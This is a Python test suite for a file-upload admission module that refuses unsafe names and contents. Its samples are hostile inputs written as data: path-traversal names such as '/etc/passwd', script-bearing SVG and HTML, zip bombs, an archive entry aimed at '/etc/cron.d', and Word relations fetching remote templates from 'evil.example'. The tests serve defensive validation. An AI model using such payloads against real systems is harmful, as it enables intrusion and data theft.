"""What may be uploaded: names that stay inside the folder, contents that run nothing and fill no disk."""

from __future__ import annotations

import io
import zipfile
from pathlib import Path

import docx
import openpyxl
import pytest
from hypothesis import given
from hypothesis import strategies as st

from assistant.ingest import Limits
from assistant.ingest.admission import Refused, admit, safe_place

LIMITS = Limits(file_mb=5, archive_mb=50)


def stored(tmp_path: Path, data: bytes) -> Path:
    file = tmp_path / "part"
    file.write_bytes(data)
    return file


def word(extra: dict[str, str] | None = None) -> bytes:
    document = docx.Document()
    document.add_paragraph("学校建有实习基地37个。")
    plain = io.BytesIO()
    document.save(plain)
    if not extra:
        return plain.getvalue()
    made = io.BytesIO()
    with zipfile.ZipFile(plain) as old, zipfile.ZipFile(made, "w") as new:
        for item in old.infolist():
            new.writestr(item, old.read(item))
        for name, text in extra.items():
            new.writestr(name, text)
    return made.getvalue()


def relation(kind: str, target: str) -> dict[str, str]:
    return {
        "word/_rels/settings.xml.rels": '<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/'
        f'relationships"><Relationship Id="r1" Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/{kind}" '
        f'Target="{target}" TargetMode="External"/></Relationships>'
    }


# --- names ------------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "name",
    ["../x.docx", "a/../../x.docx", "/etc/passwd", "C:\\x.docx", "a\\..\\b.docx", "a//b.docx", "", ".", "a/./b", "a\x00.docx",
     "a\u202efdp.exe", "CON.docx", "a/nul.txt", "x.docx.", "a|b.docx", ".ssh/id.txt", "a/.hidden.docx", "长" * 80 + ".docx",
     "/".join("abcdefghijklmn") + ".docx"],
)  # fmt: skip
def test_a_name_that_leads_elsewhere_is_refused(name: str) -> None:
    with pytest.raises(Refused):
        safe_place(name)


@pytest.mark.parametrize("name", ["教务处/2024年总结.docx", "a\\b.docx", "（终稿）最终版(2).pdf", "x.y.z.xlsx", "无扩展名"])
def test_ordinary_names_are_kept(name: str) -> None:
    assert safe_place(name) == name.replace("\\", "/")


@given(st.text(max_size=60))
def test_whatever_is_let_in_stays_inside(name: str) -> None:
    try:
        place = safe_place(name)
    except Refused:
        return
    root = Path("/data/evidence")
    assert (root / place).resolve().is_relative_to(root) and (root / place).resolve() != root


# --- contents ---------------------------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("place", "data", "says"),
    [
        ("图.svg", b"<svg xmlns='http://www.w3.org/2000/svg'><script>alert(1)</script></svg>", "SVG"),
        ("图.png", b"<?xml version='1.0'?><svg onload='x()'></svg>", "SVG"),
        ("页.html", b"<html><body><script>fetch('//x')</script></body></html>", "脚本"),
        ("页.htm", b"<html><body><img src=x onerror=alert(1)></body></html>", "脚本"),
        ("程序.docx", b"MZ\x90\x00" + b"\0" * 200, "程序"),
        ("包.rar", b"Rar!\x1a\x07\x00" + b"\0" * 50, "压缩包"),
        ("空.docx", b"", "空"),
        ("大.txt", b"x" * (6 << 20), "超过上限"),
    ],
)
def test_what_would_run_or_cannot_be_read_is_refused_with_a_sentence(tmp_path: Path, place: str, data: bytes, says: str) -> None:
    with pytest.raises(Refused, match=says):
        admit(stored(tmp_path, data), place, LIMITS)


def test_ordinary_files_come_in_under_their_real_format(tmp_path: Path) -> None:
    assert admit(stored(tmp_path, word()), "总结.docx", LIMITS) == "docx"
    assert admit(stored(tmp_path, word()), "改了名.pdf", LIMITS) == "docx"
    assert admit(stored(tmp_path, "年份,生师比\n2024,17.2:1\n".encode()), "表.csv", LIMITS) == "csv"
    assert admit(stored(tmp_path, b"<html><body><table><tr><td>1</td></tr></table></body></html>"), "表.xls", LIMITS) == "html"
    assert [f.name for f in tmp_path.iterdir()] == ["part"], "the file lies where it lay"


def test_a_damaged_file_comes_in_and_its_outcome_will_say_so(tmp_path: Path) -> None:
    assert admit(stored(tmp_path, word()[:900]), "坏.docx", LIMITS) == "docx"


def test_a_bomb_is_refused(tmp_path: Path) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("0.txt", b"0" * (40 << 20))
    with pytest.raises(Refused, match="炸弹"):
        admit(stored(tmp_path, made.getvalue()), "包.zip", LIMITS)
    bomb = word({"word/media/0.bin": "0"})
    big = io.BytesIO(bomb)
    with zipfile.ZipFile(big, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("word/media/1.bin", b"0" * (40 << 20))
    with pytest.raises(Refused, match="炸弹"):
        admit(stored(tmp_path, big.getvalue()), "总结.docx", LIMITS)


def test_an_archive_with_names_that_climb_out_is_refused(tmp_path: Path) -> None:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w") as archive:
        archive.writestr("../../etc/cron.d/x", "x")
    with pytest.raises(Refused, match="越出文件夹"):
        admit(stored(tmp_path, made.getvalue()), "包.zip", LIMITS)


@pytest.mark.parametrize(
    ("kind", "target", "refused"),
    [
        ("attachedTemplate", "http://evil.example/t.dotm", True),
        ("oleObject", "file://server/share/x.xlsx", True),
        ("image", "https://evil.example/p.png", True),
        ("frame", "\\\\server\\share\\x.htm", True),
        ("attachedTemplate", "file:///C:\\模板\\Normal.dotm", False),
        ("hyperlink", "https://www.moe.gov.cn/", False),
    ],
)
def test_what_is_fetched_on_opening_is_refused_and_what_a_person_clicks_is_not(
    tmp_path: Path, kind: str, target: str, refused: bool
) -> None:
    file = stored(tmp_path, word(relation(kind, target)))
    if refused:
        with pytest.raises(Refused, match="从别处取内容"):
            admit(file, "总结.docx", LIMITS)
    else:
        assert admit(file, "总结.docx", LIMITS) == "docx"


def test_cells_with_formulae_come_in_for_they_are_only_read(tmp_path: Path) -> None:
    book = openpyxl.Workbook()
    book.worksheets[0]["A1"] = '=HYPERLINK("http://evil.example","点我")'
    made = io.BytesIO()
    book.save(made)
    assert admit(stored(tmp_path, made.getvalue()), "表.xlsx", LIMITS) == "xlsx"
